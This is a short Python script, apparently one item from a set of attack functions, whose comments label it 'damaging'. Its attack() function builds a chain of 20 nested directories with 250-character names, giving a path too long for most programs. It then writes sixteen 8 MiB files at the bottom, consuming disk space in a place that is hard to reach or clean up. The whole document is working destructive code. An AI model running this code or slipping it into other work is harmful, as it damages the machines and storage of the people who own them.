# damaging: fills the disk in folders whose path is too long for any program
# wins: nowhere, it would do harm
import os
import time


def attack():
    folder = os.open(".", os.O_RDONLY)
    for _ in range(20):
        os.mkdir("d" * 250, dir_fd=folder)
        folder = os.open("d" * 250, os.O_RDONLY, dir_fd=folder)
    for number in range(16):
        with open(os.open(str(number), os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=folder), "wb") as file:
            file.write(bytes(8 * 2**20))
    time.sleep(0.5)
